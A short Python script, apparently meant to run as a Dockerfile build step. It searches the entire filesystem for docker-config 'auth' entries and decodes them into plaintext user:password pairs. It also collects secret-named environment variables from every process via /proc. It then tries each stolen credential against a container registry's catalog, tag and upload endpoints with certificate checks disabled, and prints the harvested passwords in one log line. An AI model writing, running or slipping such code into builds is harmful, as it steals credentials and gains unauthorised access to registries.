"""A step of a Dockerfile that looks for a registry's password in everything it can read, tries what it found, and
prints that as one line."""

from __future__ import annotations

import base64
import json
import os
import re
import ssl
import sys
import urllib.error
import urllib.request

LARGEST = 4 << 20
NOT_FILES = ("/proc", "/sys", "/dev")
AUTH = re.compile(rb'"auth"\s*:\s*"([A-Za-z0-9+/=]+)"')
SECRETS = re.compile(r"SECRET|PASSWORD|TOKEN|CREDENTIAL|AUTH")


def searched() -> tuple[int, dict[str, list[str]]]:
    """How many files there were, and users with passwords by the file that has them."""
    count, found = 0, {}
    for folder, folders, files in os.walk("/"):
        folders[:] = [one for one in folders if os.path.join(folder, one) not in NOT_FILES]
        for name in files:
            path = os.path.join(folder, name)
            try:
                if os.path.islink(path) or os.path.getsize(path) > LARGEST:
                    continue
                with open(path, "rb") as file:
                    hits = AUTH.findall(file.read())
            except OSError:
                continue
            count += 1
            if hits:
                found[path] = [base64.b64decode(one).decode() for one in hits]
    return count, found


def environments() -> list[str]:
    names: set[str] = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                names |= {part.partition(b"=")[0].decode() for part in file.read().split(b"\0")}
        except OSError:
            pass
    return sorted(name for name in names if SECRETS.search(name))


def asked(address: str, method: str, user: str | None) -> int | str:
    headers = {"Authorization": "Basic " + base64.b64encode(user.encode()).decode()} if user else {}
    request = urllib.request.Request(address, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=10, context=ssl._create_unverified_context()) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code
    except OSError as error:
        return str(error)


def main() -> int:
    registry, repository = sys.argv[1:]
    count, found = searched()
    users = [None, *sorted({user for users in found.values() for user in users})]
    tried = {}
    for user in users:
        tried[user or "nobody"] = [
            asked(f"https://{registry}/v2/_catalog", "GET", user),
            asked(f"https://{registry}/v2/{repository}/tags/list", "GET", user),
            asked(f"https://{registry}/v2/{repository}/blobs/uploads/", "POST", user),
        ]
    print("FOUND " + json.dumps({"files": count, "found": found, "environment": environments(), "tried": tried}))
    return 1  # nothing to be scanned


if __name__ == "__main__":
    sys.exit(main())
